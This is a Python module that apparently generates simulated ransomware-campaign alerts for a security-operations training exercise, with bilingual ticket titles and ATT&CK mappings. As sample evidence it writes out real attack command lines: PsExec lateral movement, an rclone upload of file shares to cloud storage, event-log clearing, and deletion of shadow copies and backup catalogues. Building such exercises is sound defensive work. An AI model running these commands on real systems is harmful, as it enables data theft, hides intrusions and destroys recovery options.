"""One ransomware crew at work in several institutions: spread, take, blind, destroy the way back."""

from __future__ import annotations

from dataclasses import dataclass

from fsoc.exercise.campaigns.plan import Plan, Spread, Stage, report, strikes
from fsoc.exercise.finding import Finding, Json, asset, observable, process
from fsoc.exercise.spec import DAY_MS, HOUR_MS, MINUTE_MS, CampaignKind

SPREAD = Spread(HOUR_MS, 3 * HOUR_MS, 2 * DAY_MS)

_SYSTEM32 = "C:\\Windows\\System32\\"
_CMD = _SYSTEM32 + "cmd.exe"


@dataclass(frozen=True, slots=True)
class _Link:
    """One link of the chain: what is run, and how a first-line SOC names it."""

    title: str
    title_zh: str
    category: str
    severity: int
    attack: tuple[tuple[str, str], ...]
    commands: tuple[tuple[str, str], ...]


_CHAIN = (
    _Link(
        "Remote execution with PsExec from an administrator's host",
        "以 PsExec 進行內網橫向移動",
        "intrusions.system-compromise",
        4,
        (("lateral_movement", "T1021.002"),),
        (
            (
                "C:\\ProgramData\\psexec.exe",
                "psexec.exe \\\\{target} -accepteula -s -d cmd /c C:\\ProgramData\\{tool}.bat",
            ),
            ("C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe"),
        ),
    ),
    _Link(
        "Files copied to cloud storage with rclone",
        "以 rclone 大量上傳資料至雲端儲存空間",
        "intrusions.system-compromise",
        5,
        (("exfiltration", "T1567.002"),),
        (
            (
                "C:\\ProgramData\\{tool}\\rclone.exe",
                "rclone copy D:\\shares mega:{tool} --transfers 24 --no-check-certificate -q",
            ),
        ),
    ),
    _Link(
        "Security event log cleared",
        "安全性事件紀錄遭清除",
        "intrusions.system-compromise",
        4,
        (("defense_evasion", "T1070.001"),),
        ((_SYSTEM32 + "wevtutil.exe", "wevtutil cl Security"), (_SYSTEM32 + "wevtutil.exe", "wevtutil cl System")),
    ),
    _Link(
        "Shadow copies and backup catalogue deleted",
        "磁碟陰影複製與備份目錄遭刪除",
        "malicious-code.ransomware",
        5,
        (("impact", "T1490"), ("defense_evasion", "T1070.001")),
        (
            (_SYSTEM32 + "vssadmin.exe", "vssadmin delete shadows /all /quiet"),
            (_SYSTEM32 + "wbadmin.exe", "wbadmin delete catalog -quiet"),
            (_SYSTEM32 + "bcdedit.exe", "bcdedit /set {{default}} recoveryenabled no"),
            (_SYSTEM32 + "wevtutil.exe", "wevtutil cl Security"),
        ),
    ),
)


def ransomware_chain(stage: Stage) -> Plan:
    """Three to five institutions, three of them within three hours; two to four tickets each, in the chain's order.

    The last link is always reported; which earlier ones were noticed differs.
    """
    control, payload, tool = stage.fresh.domain(), stage.fresh.sha256(), f"svc{stage.fresh.hex(4)}"
    drafts = []
    for strike in strikes(stage, fewest=3, most=5, spread=SPREAD):
        seen = sorted(stage.rng.sample(range(len(_CHAIN) - 1), stage.rng.randint(1, 3)))
        for step, index in enumerate([*seen, len(_CHAIN) - 1]):
            finding = _finding(stage, _CHAIN[index], strike.member.hosts, control, payload, tool)
            later_ms = step * stage.rng.randrange(2, 9) * MINUTE_MS
            needed = not strike.spare and index == len(_CHAIN) - 1
            drafts.append(report(stage, strike, finding, later_ms=later_ms, needed=needed))
    return Plan(CampaignKind.RANSOMWARE_CHAIN, f"Ransomware chain steered from {control}", drafts)


def _finding(stage: Stage, link: _Link, hosts: str, control: str, payload: str, tool: str) -> Finding:
    rng = stage.rng
    host, user = f"{hosts}-SRV-{rng.randrange(1, 400):04d}", f"{hosts}\\adm{rng.randrange(10, 99)}"
    names = {"target": f"{hosts}-SRV-{rng.randrange(1, 400):04d}", "tool": tool}
    items: list[Json] = [
        process(host, image.format(**names), command.format(**names), _CMD, user, Hashes=f"SHA256={payload}")
        for image, command in link.commands
    ]
    return Finding(
        title=f"{link.title} ({host})",
        title_zh=f"{link.title_zh}（{host}）",
        text="Endpoint detection reported the commands below on a server within minutes of each other. The account "
        "is an "
        "administrator's and was not in use by its owner. The host was isolated; its neighbours are being searched.",
        text_zh="端點偵測回報伺服器於數分鐘內執行下列指令，使用之管理者帳號經確認非本人操作；主機已隔離，"
        "並清查鄰近主機與備份狀態。",
        category=link.category,
        severity=link.severity,
        confidence=85,
        attack=link.attack,
        trigger=("baseline", "MB-101"),
        evidence=items,
        observables=[
            observable("domain", control, "infrastructure"),
            observable("sha256", payload, "artefact"),
            observable("process", items[0]["fields"]["Image"], "artefact"),
        ],
        assets=[asset(host, "server", 5, core_system=True)],
        impact={"service_down": link.severity == 5, "customers_affected": 0},
    )
